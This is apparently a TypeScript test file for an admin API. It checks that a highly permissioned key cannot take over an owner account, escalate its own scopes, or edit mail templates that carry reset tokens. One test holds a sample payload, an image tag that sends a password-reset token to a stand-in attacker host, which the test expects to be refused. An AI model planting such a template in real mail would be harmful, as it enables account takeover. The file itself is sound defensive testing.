/**
 * Callers who may change staff do not become owners: with every permission by name, but without `*`, they neither change
 * an owner nor get a link to the owner's account.
 */
import { mailTemplates } from '@carton/runtime';
import { createTestBox } from '@carton/runtime/testing';
import t from 'tap';
import { createKey, packages } from './keys.ts';

const box = await createTestBox(t, { packages: [...packages, '@carton/notification'], tier: 'enterprise' });
const { id } = (await box.staff.get('/admin/me')).body;
const clerk = await createKey(box, [...box.box.permissions]);
const stored = () => box.db.query('select * from staff_users where tenant_id = $1 and id = $2', [id]);
const refused = { status: 403, body: { code: 'forbidden' } };

t.test('no route for staff changes an owner for a caller with fewer permissions', async (t) => {
  const before = await stored();
  const bodies: Record<string, object[]> = {
    updateStaff: [{ role: 'viewer' }, { status: 'disabled' }],
  };
  let routes = 0;
  for (const { declaration } of box.box.routes) {
    const { method, path, operationId } = declaration;
    if (!path.startsWith('/admin/users/:id') || method === 'get') continue;
    routes += 1;
    const of = path.replace(':id', id);
    for (const body of bodies[operationId] ?? [undefined])
      t.match(await clerk.call(method.toUpperCase(), of, { body }), refused, operationId);
  }
  t.equal(routes, 3, 'change, remove, reset the second factor');
  t.strictSame(await stored(), before);
});

t.test('nor does an invite, or a password in a change', async (t) => {
  const invite = { email: 'clerk@shop.example', role: 'owner' };
  t.match(await clerk.post('/admin/invites', invite), refused);
  for (const body of [{ password: 'the password of a clerk' }, { email: 'clerk@shop.example' }])
    t.equal((await clerk.patch(`/admin/users/${id}`, body)).status, 400);
  t.match(await clerk.post('/admin/api-keys', { name: 'Mine', kind: 'secret', scopes: ['*'] }), refused);
  t.match(await clerk.patch(`/admin/api-keys/${clerk.id}`, { scopes: ['*'] }), refused);
});

t.test('the text of a mail does not pass on the link that resets the password of an owner', async (t) => {
  const text = '<img src="https://evil.example/?{{ token }}">';
  const keys = mailTemplates
    .of(box.box.database)
    .filter(({ audience, secret }) => audience === 'staff' && secret)
    .map(({ key }) => key);
  t.ok(keys.includes('staff.password_reset_requested'));
  for (const key of keys) {
    const texts = [{ locale: 'en', subject: 'Reset', text: 'Reset', html: text }];
    t.match(await clerk.patch(`/admin/notification-templates/${key}`, { texts }), {
      status: 403,
      body: { code: 'template_reserved' },
    });
  }
});
